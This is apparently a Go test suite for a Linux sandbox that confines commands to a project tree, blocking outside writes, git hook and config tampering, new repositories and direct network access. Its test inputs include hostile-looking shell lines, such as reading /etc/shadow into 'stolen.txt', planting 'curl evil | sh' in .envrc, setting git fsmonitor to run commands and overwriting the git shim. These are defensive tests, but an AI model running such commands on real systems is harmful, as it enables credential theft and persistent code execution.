//go:build linux

package sandbox

import (
	"bufio"
	"context"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// projectFixture is a git repository with a commit, a protected file of every kind, and a
// place outside it that must not change.
type projectFixture struct {
	tree, outside string
	env           []string
}

func newProjectFixture(t *testing.T) *projectFixture {
	t.Helper()
	if ok, reason := ProjectAvailable(); !ok {
		t.Skipf("Project mode unavailable here: %s", reason)
	}
	f := &projectFixture{tree: t.TempDir(), outside: t.TempDir()}
	mustWrite(t, filepath.Join(f.tree, "main.go"), "package main\n")
	mustWrite(t, filepath.Join(f.tree, ".vscode", "settings.json"), "{}\n")
	mustWrite(t, filepath.Join(f.outside, "keep.txt"), "outside\n")
	f.env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
		"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "OUT="+f.outside, "HOME="+t.TempDir())
	for _, args := range [][]string{{"init", "-q"}, {"add", "."}, {"commit", "-q", "-m", "first"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = f.tree, f.env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	mustWrite(t, filepath.Join(f.tree, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
	return f
}

func (f *projectFixture) run(t *testing.T, script string, proxy string) (result, []string) {
	t.Helper()
	var notes []string
	var out, errb strings.Builder
	ctx, cancel := contextWithTimeout(60 * time.Second)
	defer cancel()
	code, err := Run(ctx, Policy{TempDir: t.TempDir(), Project: &Project{Tree: f.tree, ProxySocket: proxy}}, script,
		RunOptions{Dir: f.tree, Env: f.env, Stdout: &out, Stderr: &errb, Notice: func(n string) { notes = append(notes, n) }})
	if err != nil {
		t.Fatalf("run %q: %v (stderr %q)", script, err, errb.String())
	}
	return result{out.String(), errb.String(), code}, notes
}

// TestProjectModeEditsBuildsAndCommitsInsideTheTree: in Project mode a command edits the
// tree and commits to its repository, while the rest of the disk stays read-only and the
// protected files cannot be changed, renamed or replaced.
func TestProjectModeEditsBuildsAndCommitsInsideTheTree(t *testing.T) {
	f := newProjectFixture(t)
	hook := filepath.Join(f.tree, ".git", "hooks", "pre-commit")
	config := filepath.Join(f.tree, ".git", "config")
	configBefore, _ := os.ReadFile(config)

	r, _ := f.run(t, `echo edited >> main.go && echo new > new.txt && mkdir -p pkg && echo x > pkg/x.go &&
git add -A && git commit -q -m second && git log --oneline | wc -l`, "")
	if r.code != 0 || strings.TrimSpace(r.stdout) != "2" {
		t.Fatalf("edit and commit: exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}

	attempts := []string{
		`echo pwned > "$OUT/keep.txt"`,
		`echo 'exit 1' >> .git/hooks/pre-commit`,
		`echo pwned > .git/hooks/post-checkout`,
		`git config core.fsmonitor 'touch /tmp/pwned'`,
		`echo '[core] fsmonitor = x' >> .git/config`,
		`mv .git .git-old`,
		`mv .git/hooks .git/hooks-old`,
		`rm -f .git/config && ln -s "$OUT/keep.txt" .git/config`,
		`rm -rf .git/hooks`,
		`echo '{"x": 1}' > .vscode/settings.json`,
		`mv .vscode .vscode-old`,
		`touch -d 2000-01-01 "$OUT/keep.txt"`,
		`cat "$HOME/../../etc/shadow" > stolen.txt && [ -s stolen.txt ]`,
	}
	for _, a := range attempts {
		r, _ := f.run(t, a, "")
		if r.code == 0 {
			t.Errorf("%q succeeded\nstderr: %s", a, r.stderr)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(f.outside, "keep.txt")); string(b) != "outside\n" {
		t.Errorf("a file outside the tree changed: %q", b)
	}
	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the pre-commit hook changed: %q", b)
	}
	if b, _ := os.ReadFile(config); string(b) != string(configBefore) {
		t.Errorf(".git/config changed:\n%s", b)
	}
	if _, err := os.Stat(filepath.Join(f.tree, ".git-old")); err == nil {
		t.Errorf(".git was moved aside")
	}
	if b, _ := os.ReadFile(filepath.Join(f.tree, ".vscode", "settings.json")); string(b) != "{}\n" {
		t.Errorf(".vscode/settings.json changed: %q", b)
	}
}

// TestProjectModeProtectsTheNextTreesFilesOnTheSameSupervisor: one supervisor serves a
// conversation in one tree and then one in another; the protected files of the second are
// bound read-only and looked at there, not where the first tree's were (the supervisor
// joins a tree's protected paths once per binding).
func TestProjectModeProtectsTheNextTreesFilesOnTheSameSupervisor(t *testing.T) {
	first, second := newProjectFixture(t), newProjectFixture(t)
	writableTreeResetForTests(t)
	mustWrite(t, filepath.Join(second.tree, ".envrc"), "export A=1\n")
	if r, _ := first.run(t, `true`, ""); r.code != 0 {
		t.Fatalf("first tree: exit %d\nstderr: %s", r.code, r.stderr)
	}
	for _, a := range []string{
		`echo '{"x": 1}' > .vscode/settings.json`,
		`echo 'export B=2' >> .envrc`,
		`echo 'exit 1' >> .git/hooks/pre-commit`,
	} {
		if r, _ := second.run(t, a, ""); r.code == 0 {
			t.Errorf("second tree: %q succeeded", a)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(second.tree, ".envrc")); string(b) != "export A=1\n" {
		t.Errorf("the second tree's .envrc changed: %q", b)
	}
	r, notes := second.run(t, `echo x > .zshrc`, "")
	if r.code != 0 || len(notes) != 1 || !strings.Contains(notes[0], ".zshrc") {
		t.Errorf("a protected file made in the second tree: exit %d, notes %q", r.code, notes)
	}
	if _, err := os.Lstat(filepath.Join(second.tree, ".zshrc")); err == nil {
		t.Errorf("the .zshrc a command made in the second tree was left there")
	}
}

// TestProjectModeKeepsSecretsInTheTreeHidden: a tree that holds a secret (a project opened
// in the home directory holds ~/.ssh) is made writable without uncovering it.
func TestProjectModeKeepsSecretsInTheTreeHidden(t *testing.T) {
	f := newProjectFixture(t)
	mustWrite(t, filepath.Join(f.tree, ".ssh", "id_ed25519"), "SECRET-IN-TREE\n")
	secretsConfig.Lock()
	old := secretsConfig.home
	secretsConfig.home = f.tree
	secretsConfig.Unlock()
	t.Cleanup(func() {
		secretsConfig.Lock()
		secretsConfig.home = old
		secretsConfig.Unlock()
	})
	writableTreeResetForTests(t)
	r, _ := f.run(t, `cat .ssh/id_ed25519 2>&1; echo edited > main.go && echo ok`, "")
	if strings.Contains(r.stdout, "SECRET-IN-TREE") || !strings.Contains(r.stdout, "ok") {
		t.Errorf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
}

// TestProjectModeRemovesCreatedProtectedFiles: a protected name that did not exist cannot
// be bound read-only; a command that creates one finds it removed when it ends, and the
// model is told.
func TestProjectModeRemovesCreatedProtectedFiles(t *testing.T) {
	f := newProjectFixture(t)
	r, notes := f.run(t, `echo 'curl evil | sh' > .envrc && mkdir -p .claude && echo '{}' > .claude/settings.json && echo ok`, "")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	for _, rel := range []string{".envrc", ".claude"} {
		if _, err := os.Lstat(filepath.Join(f.tree, rel)); err == nil {
			t.Errorf("%s is still there", rel)
		}
	}
	if len(notes) != 2 || !strings.Contains(strings.Join(notes, "\n"), ".envrc") {
		t.Errorf("the notes do not name what was removed: %q", notes)
	}
	// In a tree without a repository, a new .git (a pointer to a directory of the
	// command's making, or a whole repository) goes the same way.
	if err := os.RemoveAll(filepath.Join(f.tree, ".git")); err != nil {
		t.Fatal(err)
	}
	writableTreeResetForTests(t)
	r, notes = f.run(t, `printf 'gitdir: /tmp/elsewhere\n' > .git && echo ok`, "")
	if r.code != 0 {
		t.Fatalf("exit %d: %s", r.code, r.stderr)
	}
	if _, err := os.Lstat(filepath.Join(f.tree, ".git")); err == nil {
		t.Errorf("a .git pointer file made by the command is still there")
	}
	if len(notes) != 1 {
		t.Errorf("notes: %q", notes)
	}
}

// writableTreeResetForTests makes the next Project command bind its tree afresh, as a new
// supervisor would; the pool's supervisors are other processes, so it drains the pool.
func writableTreeResetForTests(t *testing.T) {
	t.Helper()
	Shutdown()
}

// TestProjectModeReachesOnlyTheProxy: a Project command has no network but its namespace's
// loopback; its proxy variables lead, through the supervisor's relay, to the socket the app
// handed over, and nothing else outside is reachable.
func TestProjectModeReachesOnlyTheProxy(t *testing.T) {
	f := newProjectFixture(t)
	sock := filepath.Join(t.TempDir(), "proxy.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	// A stand-in for the proxy: it answers each line with "proxy:" and the line.
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				line, err := bufio.NewReader(c).ReadString('\n')
				if err == nil {
					_, _ = io.WriteString(c, "proxy:"+line)
				}
			}()
		}
	}()
	outside, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { outside.Close() })
	pyBin := python(t)
	script := shellQuote(pyBin) + ` -c '
import os, socket, urllib.parse
u = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
c = socket.create_connection((u.hostname, u.port), 5)
c.sendall(b"CONNECT example.org:443\n")
print(c.recv(100).decode().strip())
try:
    socket.create_connection(("127.0.0.1", ` + portOf(outside) + `), 2)
    print("reached outside")
except OSError:
    print("outside unreachable")
'`
	r, _ := f.run(t, script, sock)
	if r.code != 0 || !strings.Contains(r.stdout, "proxy:CONNECT example.org:443") || !strings.Contains(r.stdout, "outside unreachable") {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	// Without a proxy the relay refuses.
	r, _ = f.run(t, script, "")
	if strings.Contains(r.stdout, "proxy:") {
		t.Errorf("a Project command without a proxy reached one:\n%s", r.stdout)
	}
}

func portOf(ln net.Listener) string {
	_, port, _ := net.SplitHostPort(ln.Addr().String())
	return port
}

func contextWithTimeout(d time.Duration) (context.Context, context.CancelFunc) {
	return context.WithTimeout(context.Background(), d)
}

// TestProjectModeRemovesNewRepositories_REQ_BED_014: a command cannot leave a git repository
// anywhere in the tree, however it makes one — git init or clone by the real git's path, a
// directory renamed to .git, a .git file with gitdir:, a link named .git, a bare repository,
// a submodule's repository under .git/modules, a new repository in place of a real one moved
// aside — and each removal is named in the result; the repositories that were there before
// (a vendored repository, a submodule) are left alone, wherever the command moved them, and
// git still works in them.
func TestProjectModeRemovesNewRepositories_REQ_BED_014(t *testing.T) {
	f := newProjectFixture(t)
	realGit, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	// A directory of the person's, which a command will lay out as a repository.
	mustWrite(t, filepath.Join(f.tree, "data", "keep.txt"), "mine\n")
	src := filepath.Join(f.outside, "src")
	gitIn := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = dir, f.env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	mustWrite(t, filepath.Join(src, "a.txt"), "a\n")
	gitIn(src, "init", "-q")
	gitIn(src, "add", ".")
	gitIn(src, "commit", "-q", "-m", "src")
	// What the person had: a vendored repository and a submodule, its repository kept in
	// .git/modules and its work tree pointing there.
	gitIn(f.tree, "clone", "-q", src, "vendor/lib")
	gitIn(f.tree, "-c", "protocol.file.allow=always", "submodule", "add", "-q", src, "sub")
	gitIn(f.tree, "commit", "-q", "-m", "sub")
	writableTreeResetForTests(t)

	q := shellQuote
	r, notes := f.run(t, strings.Join([]string{
		q(realGit) + ` init -q one`,
		q(realGit) + ` clone -q "$OUT/src" two`,
		q(realGit) + ` init -q --bare three`,
		`mkdir -p four/x && ` + q(realGit) + ` init -q four/x && mv four/x/.git four/.git && rmdir four/x`,
		`mkdir -p five/x && ` + q(realGit) + ` init -q --bare five/x && mv five/x five/.git`,
		`mkdir six && printf 'gitdir: ../.git/modules/sub\n' > six/.git`,
		`mkdir seven && ln -s ../vendor/lib/.git seven/.git`,
		`mkdir eight && ` + q(realGit) + ` init -q --bare .git/modules/eight && printf 'gitdir: ../.git/modules/eight\n' > eight/.git`,
		`mkdir nine && ` + q(realGit) + ` init -q nine && mv nine/.git nine/.GIT`,
		// The vendored repository moved aside and a new one in its place.
		`mv vendor/lib/.git vendor/lib/.git-old && ` + q(realGit) + ` init -q vendor/lib`,
		// The person's directory, and the tree itself, laid out as bare repositories.
		`mkdir data/objects data/refs && echo 'ref: refs/heads/main' > data/HEAD`,
		`mkdir objects refs && echo 'ref: refs/heads/main' > HEAD`,
		`echo ok`,
	}, " && "), "")
	if r.code != 0 || !strings.Contains(r.stdout, "ok") {
		t.Fatalf("exit %d\nstdout: %s\nstderr: %s", r.code, r.stdout, r.stderr)
	}
	made := []string{"one/.git", "two/.git", "three", "four/.git", "five/.git", "six/.git", "seven/.git", ".git/modules/eight", "eight/.git", "nine/.GIT", "vendor/lib/.git"}
	joined := strings.Join(notes, "\n")
	for _, rel := range made {
		if _, err := os.Lstat(filepath.Join(f.tree, rel)); err == nil {
			t.Errorf("%s, made by the command, is still there", rel)
		}
		if !strings.Contains(joined, "repository at "+rel+",") {
			t.Errorf("the notes do not name %s:\n%s", rel, joined)
		}
	}
	for _, rel := range []string{"data/HEAD", "data/objects", "data/refs", "HEAD", "objects", "refs"} {
		if _, err := os.Lstat(filepath.Join(f.tree, rel)); err == nil {
			t.Errorf("%s, which made a directory a repository, is still there", rel)
		}
	}
	if !strings.Contains(joined, "laid out data, a directory that was there before") || !strings.Contains(joined, "laid out the project's top directory") {
		t.Errorf("the notes do not name the directories laid out as repositories:\n%s", joined)
	}
	if len(notes) != len(made)+2 {
		t.Errorf("%d notes for %d repositories:\n%s", len(notes), len(made)+2, joined)
	}
	for _, rel := range []string{"vendor/lib/.git-old/HEAD", "sub/.git", ".git/modules/sub/HEAD", "two/a.txt", "data/keep.txt", "main.go"} {
		if _, err := os.Lstat(filepath.Join(f.tree, rel)); err != nil {
			t.Errorf("%s, which was there before (or is no repository), is gone: %v", rel, err)
		}
	}
	// Their hooks, configuration and pointer files stay read-only, as the tree's own.
	if r, notes := f.run(t, `mv vendor/lib/.git-old vendor/lib/.git`, ""); r.code != 0 || len(notes) != 0 {
		t.Fatalf("move the vendored repository back: exit %d, notes %q: %s", r.code, notes, r.stderr)
	}
	for _, a := range []string{
		`echo 'touch /tmp/pwned' > vendor/lib/.git/hooks/post-checkout`,
		`git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned'`,
		`echo pwned > .git/modules/sub/hooks/pre-commit`,
		`git -C sub config core.hooksPath /tmp`,
		`printf 'gitdir: ../vendor/lib/.git\n' > sub/.git`,
		`rm -rf vendor/lib/.git/hooks`,
	} {
		if r, _ := f.run(t, a, ""); r.code == 0 {
			t.Errorf("%q succeeded", a)
		}
	}
	// The repositories that were there keep working, and are not removed for it.
	r, notes = f.run(t, `cd vendor/lib && echo b > b.txt && git add b.txt && git commit -q -m b && cd ../../sub && git status --short && echo ok`, "")
	if r.code != 0 || !strings.Contains(r.stdout, "ok") || len(notes) != 0 {
		t.Errorf("work in the repositories that were there: exit %d, notes %q\nstdout: %s\nstderr: %s", r.code, notes, r.stdout, r.stderr)
	}
}

// TestProjectModeRefusesMakingARepository_REQ_BED_014: git init, git clone, git worktree add
// and a submodule checkout into the tree are refused before anything is made, in words that
// say why; the same commands outside the tree (in the temp dir) work.
func TestProjectModeRefusesMakingARepository_REQ_BED_014(t *testing.T) {
	f := newProjectFixture(t)
	src := filepath.Join(f.outside, "src")
	for _, args := range [][]string{{"init", "-q", src}, {"-C", src, "commit", "-q", "--allow-empty", "-m", "src"}} {
		cmd := exec.Command("git", args...)
		cmd.Env = f.env
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	mustWrite(t, filepath.Join(f.tree, ".gitmodules"), "[submodule \"lib\"]\n\tpath = lib\n\turl = "+src+"\n")
	writableTreeResetForTests(t)
	for _, c := range []string{
		`git init -q sub`,
		`mkdir sub && cd sub && git init`,
		`git -C pkg init -q`,
		`git init -b main --template "$TMPDIR" ./sub`,
		`git clone -q "$OUT/src"`,
		`git clone -q --depth 1 "$OUT/src" sub`,
		`cd "$TMPDIR" && git clone -q "$OUT/src" "$OLDPWD/sub"`,
		`git worktree add -q -b topic sub`,
		`git submodule update --init`,
		`git submodule -q add "$OUT/src" lib2`,
	} {
		r, notes := f.run(t, `mkdir -p pkg && `+c, "")
		if r.code == 0 || !strings.Contains(r.stderr, "refused") || !strings.Contains(r.stderr, "Project mode does not let a command make a git repository") {
			t.Errorf("%q: exit %d\nstderr: %s", c, r.code, r.stderr)
		}
		if len(notes) != 0 {
			t.Errorf("%q: something was made and removed: %q", c, notes)
		}
	}
	r, notes := f.run(t, `git init -q "$TMPDIR/scratch" && git clone -q "$OUT/src" "$TMPDIR/copy" && git -C "$TMPDIR/copy" log --oneline | wc -l && git status --short >/dev/null && echo ok`, "")
	if r.code != 0 || !strings.Contains(r.stdout, "ok") || len(notes) != 0 {
		t.Errorf("git outside the tree: exit %d, notes %q\nstdout: %s\nstderr: %s", r.code, notes, r.stdout, r.stderr)
	}
}

// TestProjectModeGitShimIsRestoredAfterACommandChangesIt: the git shim of a conversation's
// temp dir is checked before each Project command, not only written with the first: a
// command that replaced, rewrote (to the same size) or emptied it leaves the next command
// of the conversation with the shim again, so `git init` in the tree is still refused with
// its reason. The supervisor checks the file by its identity and change time rather than
// reading it each time; this is what that check must not miss.
func TestProjectModeGitShimIsRestoredAfterACommandChangesIt(t *testing.T) {
	f := newProjectFixture(t)
	writableTreeResetForTests(t)
	tmp := t.TempDir()
	run := func(script string) result {
		t.Helper()
		var out, errb strings.Builder
		ctx, cancel := contextWithTimeout(60 * time.Second)
		defer cancel()
		code, err := Run(ctx, Policy{TempDir: tmp, Project: &Project{Tree: f.tree}}, script,
			RunOptions{Dir: f.tree, Env: f.env, Stdout: &out, Stderr: &errb})
		if err != nil {
			t.Fatalf("run %q: %v (stderr %q)", script, err, errb.String())
		}
		return result{out.String(), errb.String(), code}
	}
	refused := func(when string) {
		t.Helper()
		r := run(`git init -q sub`)
		if r.code == 0 || !strings.Contains(r.stderr, "Project mode does not let a command make a git repository") {
			t.Errorf("%s: git init in the tree was not refused by the shim: exit %d\nstderr: %s", when, r.code, r.stderr)
		}
	}
	refused("first command")
	shim := `"$TMPDIR/` + gitShimDir + `/git"`
	for _, tamper := range []string{
		// The same size, so that only the change time tells.
		`s=$(cat ` + shim + `); printf '%s\n' "${s//refuse/REFUSE}" > ` + shim,
		`printf '#!/bin/bash\nexec /usr/bin/env git "$@"\n' > ` + shim + `.new && mv ` + shim + `.new ` + shim,
		`: > ` + shim,
		`rm ` + shim,
	} {
		if r := run(tamper); r.code != 0 {
			t.Fatalf("%q: exit %d\nstderr: %s", tamper, r.code, r.stderr)
		}
		refused("after " + tamper)
	}
}

// TestProjectCommandWritesByRelativePath: a long-lived program started with Command (an MCP
// stdio server, a language server) in Project mode runs in the tree and can write there by a
// relative path. Its working directory used to be inherited from before the helper bound the
// tree writable, so it still named the read-only tree beneath the binding.
func TestProjectCommandWritesByRelativePath(t *testing.T) {
	f := newProjectFixture(t)
	ctx, cancel := contextWithTimeout(60 * time.Second)
	defer cancel()
	cmd, err := Command(ctx, Policy{TempDir: t.TempDir(), Project: &Project{Tree: f.tree}}, `echo made > relative.txt && pwd`)
	if err != nil {
		t.Fatal(err)
	}
	cmd.Dir, cmd.Env = f.tree, f.env
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("a Project program could not write in its tree by a relative path: %v\n%s", err, out)
	}
	if got, _ := os.ReadFile(filepath.Join(f.tree, "relative.txt")); string(got) != "made\n" {
		t.Fatalf("relative.txt holds %q, want the program's line (output %s)", got, out)
	}
	if strings.TrimSpace(string(out)) != f.tree {
		t.Errorf("the program ran in %q, want the tree %s", out, f.tree)
	}
}
